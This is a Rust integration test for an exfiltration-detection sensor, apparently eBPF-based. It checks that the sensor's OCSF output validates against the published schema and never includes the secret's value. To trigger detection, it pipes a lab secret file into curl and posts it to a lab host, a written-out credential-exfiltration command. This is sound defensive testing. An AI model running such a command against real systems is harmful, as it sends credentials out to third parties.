//! The agent's documents as OCSF (`--format ocsf`), made by the real agent on the real kernel,
//! are valid against the published OCSF schema: alerts as Detection Findings naming the
//! process, the secret and the destination, the start and stop as Vigie's Application
//! Lifecycle, other documents as Base Events; a finding whose bytes carried the secret's value
//! critical; never the value itself.

use std::collections::BTreeSet;

use anyhow::Result;
use integration_tests::host_tools::{self, quoted};
use integration_tests::ocsf_schema::{self, OCSF_VERSION};
use integration_tests::{actor_exe, Lab, ALERT_TIMEOUT};
use serde_json::Value;

/// A Detection Finding about process `pid`.
fn is_finding_by(pid: u32) -> impl Fn(&Value) -> bool {
    move |line| line["class_uid"] == 2004 && line["evidences"][0]["process"]["pid"] == pid
}

/// A Detection Finding whose secret came through a pipe.
fn is_finding_through_a_pipe(line: &Value) -> bool {
    line["class_uid"] == 2004 && line["unmapped"]["vigie"]["via"]["kind"] == "pipe"
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn real_documents_in_ocsf_are_valid_against_the_published_schema() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let mut sensor = lab.sensor_with(&["--format", "ocsf"])?;
    let dest = lab.remote().tcp_v4();

    let run = lab.actor().read(lab.secret()).tcp(dest).run()?;
    let finding = sensor.expect(is_finding_by(run.pid), ALERT_TIMEOUT)?;
    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
    host_tools::sh(&format!("cat {} | {curl}", quoted(lab.secret())))?;
    sensor.expect(is_finding_through_a_pipe, ALERT_TIMEOUT)?;
    // curl's bytes carried the secret's value: that finding is critical, and says so.
    let confirmed =
        sensor.expect(|line| line["class_uid"] == 2004 && line["severity_id"] == 5, ALERT_TIMEOUT)?;
    assert_eq!(
        confirmed["finding_info"]["title"], "Credential exfiltration confirmed by content",
        "{confirmed:#}"
    );
    assert!(confirmed["unmapped"]["vigie"]["content"]["fingerprint"].is_string(), "{confirmed:#}");
    sensor.stop()?;

    let evidence = &finding["evidences"][0];
    assert_eq!(evidence["file"]["path"], lab.secret().to_string_lossy().as_ref(), "{finding:#}");
    assert_eq!(evidence["dst_endpoint"]["ip"], dest.ip().to_string(), "{finding:#}");
    assert_eq!(evidence["dst_endpoint"]["port"], dest.port(), "{finding:#}");
    assert_eq!(evidence["connection_info"]["protocol_name"], "tcp", "{finding:#}");
    assert!(evidence["process"]["ancestry"].as_array().is_some_and(|a| !a.is_empty()), "{finding:#}");
    assert_eq!(finding["metadata"]["version"], OCSF_VERSION, "{finding:#}");

    let events: Vec<Value> = sensor.lines().into_iter().filter(Value::is_object).collect();
    let classes: BTreeSet<u64> = events.iter().filter_map(|e| e["class_uid"].as_u64()).collect();
    assert_eq!(classes, BTreeSet::from([0, 2004, 6002]), "base events, findings, lifecycle");
    let lifecycle: BTreeSet<&str> = events
        .iter()
        .filter(|e| e["class_uid"] == 6002)
        .filter_map(|e| e["activity_name"].as_str())
        .collect();
    assert_eq!(lifecycle, BTreeSet::from(["Start", "Stop"]));
    let ids: BTreeSet<&str> = events.iter().filter_map(|e| e["metadata"]["uid"].as_str()).collect();
    assert_eq!(ids.len(), events.len(), "every event keeps its document's unique event.id");
    let secret = std::fs::read_to_string(lab.secret())?;
    let value = secret.trim().rsplit(' ').next().unwrap_or_default();
    for event in &events {
        assert!(!event.to_string().contains(value), "the secret's value leaked: {event:#}");
    }

    let report = ocsf_schema::validate(&events)?;
    assert!(report.contains(&format!("{} events valid", events.len())), "{report}");
    eprintln!("{report}");

    // The validator is not vacuous: a finding without its uid, at a severity OCSF does not
    // have, is refused, naming both.
    let mut broken = finding.clone();
    broken["finding_info"].as_object_mut().map(|info| info.remove("uid"));
    broken["severity_id"] = 7.into();
    let refusal = ocsf_schema::validate(&[broken]).unwrap_err().to_string();
    assert!(refusal.contains("uid") && refusal.contains("severity_id"), "{refusal}");
    eprintln!("{refusal}");
    Ok(())
}
